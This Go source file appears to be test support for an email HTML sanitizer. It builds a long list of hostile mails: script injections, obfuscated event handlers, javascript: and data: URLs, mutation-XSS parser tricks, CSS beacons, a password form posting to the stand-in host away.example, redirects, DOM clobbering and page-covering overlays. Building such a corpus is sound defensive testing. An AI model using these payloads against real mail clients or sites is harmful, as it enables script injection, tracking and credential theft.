// Package safetest is a collection of hostile mails, for tests of what stands between them and the reader.
package safetest

import (
	"fmt"
	"strings"
)

// Host is where hostile mails would send.
const Host = "away.example"

// mark is what a hostile mail would run: it tells the page around it, which can be heard from any frame. Its quotes are none
// that HTML knows.
const (
	mark = "top.postMessage(`hostile`,`*`)"
	away = "https://" + Host + "/x"
)

// Mails are the HTML of mails that try to run a script, to have something fetched, to lead away, to cover what is beside them
// or to stand in a page's way: our own collection, and what fuzzing has found.
func Mails() []string {
	var out []string
	add := func(all ...string) { out = append(out, all...) }
	// scripts, as they are and as they are hidden
	add(`<script>`+mark+`</script>`, `<ScRiPt >`+mark+`</sCrIpT >`, `<script src=//away.example/x.js></script>`, `<script/x>`+mark+`</script>`, "<script\n>"+mark+"</script\n>",
		`<scr<script>ipt>`+mark+`</scr</script>ipt>`, `<<script>`+mark+`//<</script>`, `<script type=module>`+mark+`</script>`, `<noscript><p title="</noscript><img src=x onerror=`+mark+`>">`,
		`<script>/*<!--*/`+mark+`/*-->*/</script>`, `<script><!--<script></script>`+mark+`</script>`, "\x00<scr\x00ipt>"+mark+"</script>", `<svg><script>`+mark+`</script></svg>`,
		`<svg><script href="data:text/javascript,`+mark+`"/></svg>`, `<math><script>`+mark+`</script></math>`, `<template><script>`+mark+`</script></template>`)
	// handlers of events, in many elements and with many separators
	for _, on := range []string{"onerror", "onload", "onclick", "onmouseover", "onfocus autofocus tabindex=1", "ontoggle", "onanimationstart style=animation:x", "onpointerenter", "onbeforeinput", "onscrollend", "onwheel", "onbegin"} {
		name, more, _ := strings.Cut(on, " ")
		add(fmt.Sprintf(`<img src=x %s="%s" %s>`, name, mark, more), fmt.Sprintf(`<div %s='%s' %s>x</div>`, name, mark, more))
	}
	for _, sep := range []string{"/", "\n", "\t", "\f", "\r", "\x00", "&Tab;", `"`, "'", "=", "\u00a0", "//", "/x=y/"} {
		add("<img src=x" + sep + "onerror=" + mark + ">")
	}
	add(`<body onload=`+mark+`>`, `<details open ontoggle=`+mark+`>x</details>`, `<video src=x onerror=`+mark+`></video>`, `<audio src=x onerror=`+mark+`>`, `<marquee onstart=`+mark+`>x</marquee>`,
		`<input autofocus onfocus=`+mark+`>`, `<select autofocus onfocus=`+mark+`>`, `<textarea autofocus onfocus=`+mark+`>`, `<svg onload=`+mark+`>`, `<svg><animate onbegin=`+mark+` attributeName=x dur=1s>`,
		`<iframe onload=`+mark+`></iframe>`, `<object onerror=`+mark+` data=x></object>`, `<isindex onfocus=`+mark+` autofocus>`, `<style onload=`+mark+`></style>`, `<link rel=stylesheet href=x onerror=`+mark+`>`)
	// addresses that run
	for _, scheme := range []string{"javascript:", "JaVaScRiPt:", " javascript:", "\x01javascript:", "java\nscript:", "java\tscript:", "&#106;avascript:", "&#x6A;&#x61;vascript:", "javascript&colon;", "vbscript:", "livescript:",
		"data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=1>", "blob:https://away.example/", "filesystem:x", "view-source:javascript:", "feed:javascript:", "\u2028javascript:", "jar:https://away.example/!/"} {
		add(`<a href="`+scheme+mark+`">x</a>`, `<img src="`+scheme+mark+`">`)
	}
	add(`<form action="javascript:`+mark+`"><button>x</button></form>`, `<button formaction="javascript:`+mark+`">x</button>`, `<isindex action=javascript:`+mark+`>`, `<base href="javascript:`+mark+`//"><a href="#">x</a>`,
		`<iframe src="javascript:`+mark+`"></iframe>`, `<iframe srcdoc="<script>`+mark+`</script>"></iframe>`, `<object data="javascript:`+mark+`"></object>`, `<embed src="javascript:`+mark+`">`,
		`<svg><a xlink:href="javascript:`+mark+`"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=`+mark+`>#x"/></svg>`, `<math><a xlink:href="javascript:`+mark+`">x</a></math>`,
		`<math href="javascript:`+mark+`">x</math>`, `<svg><set attributeName=href to=javascript:`+mark+`>`, `<area href="javascript:`+mark+`">`, `<table background="javascript:`+mark+`">`)
	add(`<a href=http:>x</a>`, `<a href="https:path">x</a>`, `<a href="http:/path">x</a>`, `<a href="//away.example">x</a>`, `<a href="/settings">x</a>`, `<a href="?x">x</a>`, `<a href="#x">x</a>`)
	// pages that lead away, and forms that collect
	add(`<meta http-equiv=refresh content="0;url=`+away+`">`, `<meta http-equiv="refresh" content="0;javascript:`+mark+`">`, `<meta http-equiv=Set-Cookie content="a=b">`, `<base href="`+away+`"><img src=a.png>`, `<base target=_top><a href="`+away+`">x</a>`,
		`<form action="`+away+`"><input name=password><input type=submit></form>`, `<form id=f action="`+away+`"></form><button form=f>x</button>`, `<input type=image src="`+away+`">`, `<a href="`+away+`" ping="`+away+`">x</a>`,
		`<a href="`+away+`" target=_parent>x</a>`, `<a href=x attributionsrc="`+away+`">x</a>`, `<portal src="`+away+`">`, `<fencedframe src="`+away+`">`, `<iframe src="`+away+`"></iframe>`, `<frameset><frame src="`+away+`"></frameset>`,
		`<object data="`+away+`"></object>`, `<embed src="`+away+`">`, `<applet code=x codebase="`+away+`">`)
	// what a browser fetches by itself
	add(`<img src="`+away+`">`, `<img src="//away.example/x">`, `<img srcset="`+away+` 1x">`, `<img src=x lowsrc="`+away+`">`, `<img src=x dynsrc="`+away+`">`, `<picture><source srcset="`+away+`"><img src=x></picture>`, `<image src="`+away+`">`,
		`<video poster="`+away+`"></video>`, `<video src="`+away+`"></video>`, `<audio src="`+away+`"></audio>`, `<video><track src="`+away+`"></video>`, `<link rel=stylesheet href="`+away+`">`, `<link rel=dns-prefetch href="//away.example">`, `<link rel=preload as=image href="`+away+`">`,
		`<link rel=icon href="`+away+`">`, `<link rel=prerender href="`+away+`">`, `<style>@import "`+away+`";</style>`, `<style>@import url(`+away+`);</style>`, `<style>body{background:url(`+away+`)}</style>`, `<style>@font-face{font-family:x;src:url(`+away+`)}*{font-family:x}</style>`,
		`<table background="`+away+`"><tr><td background="`+away+`">x</table>`, `<body background="`+away+`">x`, `<svg><image href="`+away+`"/></svg>`, `<svg><feImage href="`+away+`"/></svg>`, `<svg><use href="`+away+`#x"/></svg>`, `<img src="`+away+`" width=1 height=1>`, `<input type=image src="`+away+`" >`)
	for _, css := range []string{`background:url(` + away + `)`, `background-image:url("` + away + `")`, `background-image:u\72l(` + away + `)`, `background-image:url(\68ttps://away.example)`, `list-style:url(` + away + `)`, `list-style-image:url(` + away + `)`, `cursor:url(` + away + `),auto`,
		`border-image:url(` + away + `)`, `content:url(` + away + `)`, `background:image-set(url(` + away + `) 1x)`, `background:-webkit-image-set(url(` + away + `) 1x)`, `filter:url(` + away + `)`, `mask:url(` + away + `)`, `shape-outside:url(` + away + `)`, `src:url(` + away + `)`, `--x:url(` + away + `);background:var(--x)`,
		`width:expression(` + mark + `)`, `width:e/**/xpression(` + mark + `)`, `behavior:url(` + away + `)`, `-moz-binding:url(` + away + `)`, `background:u/**/rl(` + away + `)`, `color:red;/*` + `*/background:url(` + away + `)`, `font-family:"x;background:url(` + away + `)"`, `color:re\d;background:url(` + away + `)`} {
		add(`<div style="` + strings.ReplaceAll(css, `"`, "&quot;") + `">x</div>`)
	}
	// covering what is beside the mail
	for _, css := range []string{`position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647`, `position:absolute;inset:0`, `position:sticky;top:0`, `transform:translate(-500px,-500px) scale(50)`, `top:-500px;position:relative`, `opacity:0;position:fixed`, `zoom:100`, `animation:x 1s`} {
		add(`<div style="` + css + `">x</div>`)
	}
	// names that stand in a page's way
	add(`<img name=getElementById>`, `<form name=document><input name=cookie></form>`, `<a id=location href="`+away+`">x</a>`, `<img id=attributes>`, `<form id=x><input id=y name=innerHTML></form>`, `<a id=defaultView name=x>`, `<iframe name=self></iframe>`, `<div class="composer toolbar btn primary" id=main>x</div>`)
	// markup that a second reading turns into something else
	add(`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=`+mark+`&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=`+mark+`>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=`+mark+`>`,
		`<noembed><img title="</noembed><img src onerror=`+mark+`>"></noembed>`, `<xmp><p title="</xmp><svg/onload=`+mark+`>">`, `<title><p title="</title><img src onerror=`+mark+`>">`, `<textarea><p title="</textarea><img src onerror=`+mark+`>">`, `<style><p title="</style><img src onerror=`+mark+`>">`,
		`<select><style></select><img src onerror=`+mark+`></style>`, `<table><td></table><style><b title="</style><img src onerror=`+mark+`>">`, `<!--><img src onerror=`+mark+`>-->`, `<!-- --!><img src onerror=`+mark+`>-->`, `<!--[if gte mso 9]><img src onerror=`+mark+`><![endif]-->`, `<![CDATA[<img src onerror=`+mark+`>]]>`,
		`<?xml version="1.0"?><?x <img src onerror=`+mark+`>?>`, `<!DOCTYPE x [<!ENTITY y "<img onerror=`+mark+`>">]>&y;`, `<plaintext><img src onerror=`+mark+`>`, `<svg><desc><b title="</desc><img src onerror=`+mark+`>">`, `<svg><foreignObject><iframe onload=`+mark+`></foreignObject></svg>`, `<svg><title><style><img src onerror=`+mark+`></style></title></svg>`,
		`<math><annotation-xml encoding="text/html"><style><img src onerror=`+mark+`></style></annotation-xml></math>`, `<a href="x" title="a&quot;><img src onerror=`+mark+`>">x</a>`, "<a title=\"`><img src onerror="+mark+">\">x</a>", `<img alt="<x" title="/><img src=x onerror=`+mark+`>">`, `<div title='"><script>`+mark+`</script>'>x</div>`,
		`<table><caption><svg><title><![CDATA[</title><img src onerror=`+mark+`>]]>`, `<b><p><svg><style></p><img src onerror=`+mark+`></style>`, `<img src="cid:&quot; onerror=`+mark+`">`, `<img src="cid:x' onerror='`+mark+`">`, `<a href="mailto:&quot; onclick=`+mark+`">x</a>`, `<a href="https://a.example/&quot;onmouseover=`+mark+`//">x</a>`)
	return append(out, `<A href=http:>`) // fuzzing found it
}
